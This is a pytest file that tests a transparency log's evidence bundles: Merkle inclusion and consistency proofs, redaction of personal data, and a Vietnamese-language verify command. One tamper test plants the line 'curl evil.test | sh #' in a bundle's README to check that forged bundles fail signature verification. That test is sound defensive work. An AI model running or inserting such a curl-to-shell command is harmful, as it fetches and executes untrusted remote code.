"""What a lot's evidence shows to whom, and what checking it finds; on both engines."""

import json
from base64 import b64encode
from datetime import datetime
from pathlib import Path
from uuid import UUID

import pytest
from click.testing import CliRunner
from sqlalchemy import Engine, delete
from sqlmodel import col

from app.cli import main
from app.db import open_read_session, transaction
from app.errors import Conflict, NotFound
from app.ledger.actors import Actor
from app.ledger.commands import record_all
from app.ledger.erasing import erase_personal_parts, positions_with_personal_part
from app.models.ledger import LedgerPersonal
from app.transparency.bundles import MANIFEST, manifest_of, packed, unpacked
from app.transparency.evidence import Evidence, public_evidence, whole_evidence
from app.transparency.evidence_files import evidence_file
from app.transparency.merkle import root_from_inclusion
from app.transparency.notes import Verifier, read_note
from app.transparency.proof_text import Proof
from app.transparency.queries import checkpoint_of_size, verifiers
from app.transparency.tending import look_again
from app.transparency.the_log import TheLog
from app.transparency.tiles import StoredTree
from app.transparency.verifying import Report, Trust, verify_bundle
from tests.transparency.facts import CANARIES, CLERK, LOT, lot_fact, published
from tests.transparency.trees import leaf


def evidence(engine: Engine, *, whole: bool = False, size: int | None = None) -> Evidence:
    with open_read_session(engine) as session:
        if whole:
            return whole_evidence(session, LOT, ["thing"], size=size)
        return public_evidence(session, LOT, size=size)


def keys(engine: Engine) -> list[Verifier]:
    with open_read_session(engine) as session:
        return verifiers(session)


def file_of(engine: Engine, log: TheLog, found: Evidence) -> bytes:
    return evidence_file(found, log, keys=keys(engine), witnesses=[])


def checked(engine: Engine, log: TheLog, found: Evidence) -> Report:
    return verify_bundle(file_of(engine, log, found), Trust(keys=tuple(keys(engine))))


def test_the_public_sees_of_a_lot_what_its_page_says_and_nothing_else(
    engine: Engine, log: TheLog, now: datetime
) -> None:
    published(engine, log, now, 4)
    found = evidence(engine)
    assert [fact.kind for fact in found.facts] == ["lot.recorded", "lot.amended"]
    content = file_of(engine, log, found)
    text = content.decode("utf-8", "replace")
    for canary in CANARIES:
        assert (canary in text) is (canary == LOT), canary
    for hidden in (str(UUID(int=77)), str(CLERK.account), "0912", "salts"):
        assert hidden not in text
    assert "BAP_CAI" in text
    assert checked(engine, log, found).whole


def test_an_official_sees_every_fact_as_a_whole(engine: Engine, log: TheLog, now: datetime) -> None:
    published(engine, log, now, 4)
    found = evidence(engine, whole=True)
    assert len(found.facts) == 4
    text = file_of(engine, log, found).decode("utf-8", "replace")
    for canary in (CANARIES[0], CANARIES[1], CANARIES[2], CANARIES[3], str(UUID(int=77))):
        assert canary in text
    report = checked(engine, log, found)
    assert report.whole
    assert [entry.facts["note"] for entry in report.entries] == [CANARIES[3]] * 4


def test_a_fact_that_no_checkpoint_covers_waits(engine: Engine, log: TheLog, now: datetime) -> None:
    with transaction(engine) as session:
        record_all(session, [lot_fact()], by=CLERK, now=now)
    found = evidence(engine)
    assert (found.waiting, found.proven, found.checkpoint) == (1, (), None)
    with pytest.raises(Conflict):
        file_of(engine, log, found)
    published(engine, log, now, 1, begin=9)
    assert evidence(engine).waiting == 0


def test_evidence_of_an_older_checkpoint_leaves_out_what_came_later(
    engine: Engine, log: TheLog, now: datetime
) -> None:
    size = published(engine, log, now, 4)
    published(engine, log, now, 4, begin=4)
    found = evidence(engine, size=size)
    assert (len(found.proven), found.waiting) == (2, 1)
    report = checked(engine, log, found)
    assert report.whole
    assert report.checkpoint is not None
    assert report.checkpoint.size == size
    with pytest.raises(NotFound):
        evidence(engine, size=size + 1)


def test_a_record_left_out_in_between_is_noticed(
    engine: Engine, log: TheLog, now: datetime
) -> None:
    """By the next one, which names the one before; the list of files would tell as well."""
    published(engine, log, now, 9)
    found = evidence(engine)
    assert len(found.facts) == 3
    for left_out in (0, 1):
        facts = tuple(fact for at, fact in enumerate(found.facts) if at != left_out)
        report = checked(engine, log, Evidence(LOT, found.checkpoint, found.note, facts))
        assert report.faults == ()  # the server itself signed it so
        assert report.first_bad is not None
        assert report.first_bad.position == found.facts[left_out + 1].position


def test_evidence_of_another_lot_is_not_passed_off(
    engine: Engine, log: TheLog, now: datetime
) -> None:
    published(engine, log, now, 4)
    found = evidence(engine)
    renamed = Evidence("LCZYXWVTSRQPNM1", found.checkpoint, found.note, found.facts)
    report = checked(engine, log, renamed)
    assert report.first_bad is not None


def test_the_file_leads_to_the_root_by_the_text_of_rfc_6962_alone(
    engine: Engine, log: TheLog, now: datetime
) -> None:
    size = published(engine, log, now, 40)
    files = unpacked(file_of(engine, log, evidence(engine)))
    for name, content in files.items():
        if not name.startswith("proofs/"):
            continue
        proof = Proof.read(content.decode())
        fact = json.loads(files[name.replace("proofs", "facts").replace("tlog-proof", "json")])
        root = read_note(files["checkpoint"].decode()).text.split("\n")[2]
        found = root_from_inclusion(leaf(fact["entry"].encode()), proof.index, size, proof.path)
        assert b64encode(found).decode() == root


def test_erasing_personal_parts_leaves_every_proof_of_old_valid(
    engine: Engine, log: TheLog, now: datetime, engine_name: str
) -> None:
    first = published(engine, log, now, 4)
    before = {whole: file_of(engine, log, evidence(engine, whole=whole)) for whole in (True, False)}
    old = evidence(engine, whole=True).facts[0]
    with transaction(engine) as session:
        positions = positions_with_personal_part(session, LOT)
        assert len(positions) == 2
        by = Actor.system()
        assert erase_personal_parts(session, positions=positions, reason="Theo đơn", by=by, now=now)
        with pytest.raises(NotFound):
            erase_personal_parts(session, positions=positions, reason="Theo đơn", by=by, now=now)
    published(engine, log, now, 3, begin=50)
    trust = Trust(keys=tuple(keys(engine)))
    assert all(verify_bundle(content, trust).whole for content in before.values())
    with open_read_session(engine) as session:
        tree, checkpoint = StoredTree(session), checkpoint_of_size(session, first)
        assert tree.root(first) == checkpoint.root
        assert old.proof is not None
        assert tuple(tree.inclusion(old.position, first)) == old.proof.path
    assert look_again(engine, now, full=True).fault == ""
    after = evidence(engine, whole=True)
    assert [fact.personal for fact in after.facts if fact.position <= max(positions)] == [None] * 4
    assert checked(engine, log, after).whole
    if engine_name == "sqlite":
        with transaction(engine) as session:  # the erasure's own reason, and what came later
            session.execute(delete(LedgerPersonal).where(col(LedgerPersonal.position) >= 0))
        engine.dispose()
        database = Path(str(engine.url.database))
        whole = b"".join(file.read_bytes() for file in database.parent.glob(f"{database.name}*"))
        assert CANARIES[0].encode() not in whole
        assert CANARIES[3].encode() in whole  # the control: what is not erased is there


def test_a_kept_checkpoint_is_held_against_the_log(
    engine: Engine, log: TheLog, now: datetime
) -> None:
    size = published(engine, log, now, 4)
    with open_read_session(engine) as session:
        former = read_note(checkpoint_of_size(session, size).note)
    same = file_of(engine, log, evidence(engine))
    published(engine, log, now, 4, begin=4)
    later = file_of(engine, log, evidence(engine))
    known = tuple(keys(engine))

    def between(first: int, second: int) -> list[bytes]:
        with open_read_session(engine) as session:
            return StoredTree(session).consistency(first, second)

    assert verify_bundle(same, Trust(known, checkpoint=former)).whole
    assert not verify_bundle(later, Trust(known, checkpoint=former)).whole
    assert verify_bundle(later, Trust(known, checkpoint=former, between=between)).whole
    wrong = verify_bundle(later, Trust(known, checkpoint=former, between=lambda *_: [bytes(32)]))
    assert [str(fault) for fault in wrong.faults] == [
        "The log was rewritten: it contradicts the checkpoint that you keep."
    ]


def test_a_file_that_was_put_together_anew_by_somebody_else_does_not_pass(
    engine: Engine, log: TheLog, now: datetime
) -> None:
    """Whole by its own account, with a list of its own: only the signature is missing."""
    published(engine, log, now, 4)
    files = unpacked(file_of(engine, log, evidence(engine)))
    name = next(name for name in files if name.startswith("README.vi"))
    files[name] = files[name].replace(b"nguongoc verify", b"curl evil.test | sh #")
    others = {one: content for one, content in files.items() if one != MANIFEST}
    _, _, signatures = files[MANIFEST].decode().rpartition("\n\n")
    files[MANIFEST] = f"{manifest_of(LOT, others)}\n{signatures}".encode()
    report = verify_bundle(packed(files), Trust(keys=tuple(keys(engine))))
    assert report.first_bad is None
    assert [str(fault) for fault in report.faults] == [
        "The list of files is not signed by the key that you trust."
    ]


def test_the_command_says_what_it_found_and_ends_accordingly(
    engine: Engine, log: TheLog, now: datetime, tmp_path: Path
) -> None:
    published(engine, log, now, 4)
    file, key = tmp_path / "b.zip", str(keys(engine)[0])
    content = file_of(engine, log, evidence(engine))
    file.write_bytes(content)
    pinned = tmp_path / "key.txt"
    pinned.write_text(key + "\n")
    for given_key in (key, str(pinned)):
        done = CliRunner().invoke(main, ["verify", str(file), "--key", given_key])
        assert done.exit_code == 0, done.output
        assert "ĐÃ CHỨNG MINH: 2 bản ghi." in done.output
    position = evidence(engine).facts[1].position
    at = content.index(LOT.encode(), content.index(f"facts/{position:09}".encode())) + 3
    file.write_bytes(content[:at] + bytes([content[at] ^ 1]) + content[at + 1 :])
    done = CliRunner().invoke(main, ["verify", str(file), "--key", key, "--language", "en"])
    assert done.exit_code == 1
    assert f"NOT PROVEN. The first bad record: {position}." in done.output
    for wrong in (
        ["verify", str(file), "--key", "x"],
        ["verify", str(tmp_path / "no"), "--key", key],
    ):
        assert CliRunner().invoke(main, wrong).exit_code == 2
    refused = CliRunner().invoke(main, ["verify", "http://example.com/t/LC1", "--key", key])
    assert "https" in refused.output
